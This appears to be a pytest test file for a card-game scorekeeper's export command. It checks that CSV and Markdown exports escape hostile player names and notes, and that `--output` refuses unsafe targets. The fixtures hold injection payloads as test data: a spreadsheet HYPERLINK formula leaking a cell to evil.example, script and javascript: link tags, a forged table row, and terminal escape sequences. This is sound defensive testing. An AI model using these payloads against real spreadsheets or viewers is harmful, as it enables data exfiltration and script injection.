"""Exports a spreadsheet or a Markdown viewer would run (issue 27): what a name or a note holds is shown,
never run, and stays in its cell; `--output` writes only a regular file outside the data folder, atomically,
escaped as the same export to stdout is.

LibreOffice (headless `soffice`) opens the CSV where it is installed (`.ci/run` installs it); that test
skips, saying why, where it is not."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli.libreoffice import NEEDED, convert

# A name may hold anything but `= , :` (C-4): what a spreadsheet or a Markdown viewer would read as code.
HOSTILE = ["+Ana", "@Bea", "-Cid"]
NOTE = '=HYPERLINK("http://evil.example/?"&A1)\r+SUM(1)\n| forged | row |\n<script>alert(1)</script> [x](javascript:alert(1)) <b>'


@pytest.fixture
def hostile(run):
    """A partie of l'hombre between hostile names, with a negative net (a figure) and a hostile note."""
    assert run("new", "hombre", *(a for name in HOSTILE for a in ("-p", name)), "--game", "hostile").code == 0
    assert run("coup", "--hombre", "@Bea", "--contract", "demande", "--tricks", "+Ana=4,@Bea=3,-Cid=2").code == 0
    assert run("coup", "--hombre", "-Cid", "--contract", "demande", "--tricks", "+Ana=1,@Bea=3,-Cid=5").code == 0
    assert run("note", "1", NOTE).code == 0
    assert run("note", "2", "=2+3").code == 0
    return run


def text_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_text_cells_never_begin_as_a_formula_and_figures_stay_figures(hostile, tmp_path: Path) -> None:
    for page in (hostile("export", "-f", "csv").out, written(hostile, tmp_path / "f.csv")):
        rows = list(csv.reader(io.StringIO(page, newline="")))
        assert len(rows) == 3  # the header and two coups: the note's line breaks start no row
        cells = text_cells(rows)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'+Ana" in rows[0][-4] or any(cell.startswith("'+Ana") for cell in rows[0])  # a header too
        figures = [cell for row in rows[1:] for cell in row if _number(cell)]
        assert any(cell.startswith("-") for cell in figures)  # a negative net is written as a number
        assert rows[1][-1].startswith("'=HYPERLINK")


def test_csv_quotes_a_cell_holding_any_line_break():
    from scorekeeper.present.paper import Table
    from scorekeeper.present.paper.formats import csv as write

    for cut in ("\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028"):
        page = write(Table(["note"], [[f"a{cut}b"], ["c"]]))
        assert page == f'note\n"a{cut}b"\nc\n'


@NEEDED
def test_libreoffice_opens_the_csv_as_text_and_figures(hostile, tmp_path: Path) -> None:
    """The CSV as a spreadsheet reads it, formulas evaluated (the import's 13th option): a cell LibreOffice
    had run would be a value (`2`, an error) in the CSV it writes back; every text cell is as written."""
    source = tmp_path / "fiche.csv"
    written(hostile, source)
    back = convert(
        source,
        "CSV:44,34,76,1,,0,false,true,true,false,false,-1,true",
        "csv:Text - txt - csv (StarCalc):44,34,76",
        tmp_path,
    )
    read_back = list(csv.reader(io.StringIO(back.read_bytes().decode(), newline="")))
    written_rows = list(csv.reader(io.StringIO(source.read_bytes().decode(), newline="")))
    assert len(read_back) == len(written_rows) == 3
    for ours, theirs in zip(written_rows, read_back, strict=True):
        for cell, shown in zip(ours, theirs, strict=True):
            if _number(cell):
                assert float(shown) == float(cell)  # a figure is a number the spreadsheet can add
            elif re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", cell):  # a coup's time: a date-time, its seconds added
                assert shown == f"{cell}:00", cell
            else:  # text as written, or without the `'` that marks it as text: never a formula's value
                shown = shown.replace("\r\n", "\n").replace("\r", "\n")  # LibreOffice writes its breaks as LF
                assert shown in (cell.replace("\r", "\n"), cell[1:].replace("\r", "\n")), cell


def markdown_html(page: str) -> str:
    """The Markdown as a viewer renders it: CommonMark with GitHub's tables, raw HTML allowed as GitHub's is."""
    from markdown_it import MarkdownIt  # rich's own Markdown parser

    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(page))


def test_markdown_shows_html_and_links_as_text_and_a_note_stays_in_its_cell(hostile, tmp_path: Path) -> None:
    for page in (hostile("export", "-f", "md").out, written(hostile, tmp_path / "f.md")):
        rendered = markdown_html(page)
        assert "<script" not in rendered and "<b>" not in rendered and "href" not in rendered
        assert rendered.count("<tr>") == 3  # the header and two coups: no forged row
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered  # shown, as typed
        assert "| forged | row |" in rendered  # the note whole, its pipes shown, in its one cell
        assert rendered.count("<br>") == 3  # its three line breaks (CR, LF, LF), inside it


def test_markdown_escapes_names_in_the_title_headers_and_lines(run) -> None:
    assert (
        run("new", "manille-muette", "-p", "<i>A", "-p", "*B*", "-p", "[C](x)", "-p", "# D", "--game", "<b>g").code == 0
    )
    assert run("coup", "-r", "7s", "--points", "<i>A=40").code == 0
    rendered = markdown_html(run("export", "-f", "md").out)
    assert "<i>" not in rendered and "<em>" not in rendered and "<b>" not in rendered and "href" not in rendered
    assert "<h1>&lt;b&gt;g" in rendered and rendered.count("<h1>") == 1


def written(run, path: Path) -> str:
    ran = run("export", "--output", str(path))
    assert ran.code == 0, ran.err
    return path.read_bytes().decode()  # as written: no line break translated


# --- --output -------------------------------------------------------------------------------------


def test_output_onto_a_game_file_or_anywhere_in_the_data_folder_is_refused(
    marius_game, run, home: Path, tmp_path: Path
) -> None:
    game_file = next((home / "games").glob("*.toml"))
    before = game_file.read_bytes()
    (tmp_path / "inside").symlink_to(home / "games")
    for target in (
        game_file,
        home / "games" / "new.csv",
        home / "cache" / "x.md",
        home / "x.md",
        tmp_path / "inside" / "y.md",
    ):
        ran = run("export", "--format", "csv", "--output", str(target))
        assert ran.code == 2 and ran.err.count("\n") == 1, target
        assert "is in scorekeeper's data folder" in ran.err and ran.out == ""
    assert game_file.read_bytes() == before
    assert run("sheet").code == 0


def test_output_refuses_a_link_a_fifo_a_device_or_a_folder(marius_game, home: Path, tmp_path: Path) -> None:
    """Refused at once, nothing written through: a FIFO hung the command for good, a link was followed."""
    fifo, link, folder = tmp_path / "fifo", tmp_path / "link.md", tmp_path / "folder"
    os.mkfifo(fifo)
    link.symlink_to(tmp_path / "elsewhere.md")
    folder.mkdir()
    for target in (fifo, link, folder, Path("/dev/null")):
        ran = subprocess.run(
            [sys.executable, "-m", "scorekeeper", "export", "--format", "md", "--output", str(target)],
            env={**os.environ, "SCOREKEEPER_HOME": str(home), "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
            capture_output=True,
            text=True,
            timeout=30,  # a FIFO opened for writing would wait for a reader for ever
        )
        assert ran.returncode == 2 and "is not a file of its own" in ran.stderr and ran.stderr.count("\n") == 1, target
    assert not (tmp_path / "elsewhere.md").exists() and stat.S_ISFIFO(fifo.lstat().st_mode)


def test_output_replaces_a_file_atomically_keeping_its_mode(marius_game, run, tmp_path: Path) -> None:
    target = tmp_path / "fiche.md"
    assert run("export", "--output", str(target)).code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~_umask()
    target.chmod(0o640)
    inode = target.stat().st_ino
    assert run("export", "--output", str(target)).code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert target.stat().st_ino != inode  # a new file renamed into place: a reader never sees half of one
    assert not [path for path in tmp_path.iterdir() if path.name.endswith(".tmp")]


@pytest.mark.parametrize("format", ["csv", "md", "html"])
def test_a_file_written_is_escaped_as_the_same_export_to_stdout(marius_game, run, tmp_path: Path, format: str) -> None:
    assert run("note", "1", "Brun \x1b]52;c;aGk=\x07 \x1b[1mbold\x1b[0m \x1b[8mhidden").code == 0
    target = tmp_path / f"fiche.{format}"
    assert run("export", "--output", str(target)).code == 0
    page = target.read_bytes().decode()
    assert "\x1b" not in page and "\x07" not in page and "\\x1b" in page  # shown, escaped
    assert page == run("export", "--format", format).out


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


@pytest.fixture
def marius_game(marius):
    assert marius("coup", "-r", "7s", "--points", "César=38").code == 0
    return marius


@NEEDED
@pytest.mark.parametrize(("dialect", "separator"), [("excel", 44), ("excel-fr", 59)])
def test_libreoffice_keeps_a_name_like_a_date_as_text(tmp_path: Path, dialect: str, separator: int) -> None:
    """issue 43: names a spreadsheet would read as a date or a fraction (`1/2`, `3-4`, `12/3/4`) stay text in
    LibreOffice, special numbers detected, read back as they look; for programs (rfc4180) written untouched."""
    from scorekeeper.present.paper import Table
    from scorekeeper.present.paper.formats import DIALECTS
    from scorekeeper.present.paper.formats import csv as write

    names = ["1/2", "3-4", "12/3/4", "Ann"]
    source = tmp_path / "names.csv"
    source.write_bytes(write(Table(names, [[1, 2, 3, 4]]), DIALECTS[dialect]).encode())
    back = convert(
        source,
        f"CSV:{separator},34,76,1,,0,false,true,true,false,false,-1,true",
        "csv:Text - txt - csv (StarCalc):44,34,76",
        tmp_path,
    )
    header = next(csv.reader(io.StringIO(back.read_bytes().decode("utf-8-sig"), newline="")))
    seen = [cell.replace("\u2215", "/").replace("\u2011", "-") for cell in header]
    assert seen == names, header
    assert (
        write(Table(names, [["=1+1", "-2", "@x", "4-3-2"]]), DIALECTS["rfc4180"])
        == "1/2,3-4,12/3/4,Ann\n=1+1,-2,@x,4-3-2\n"
    )
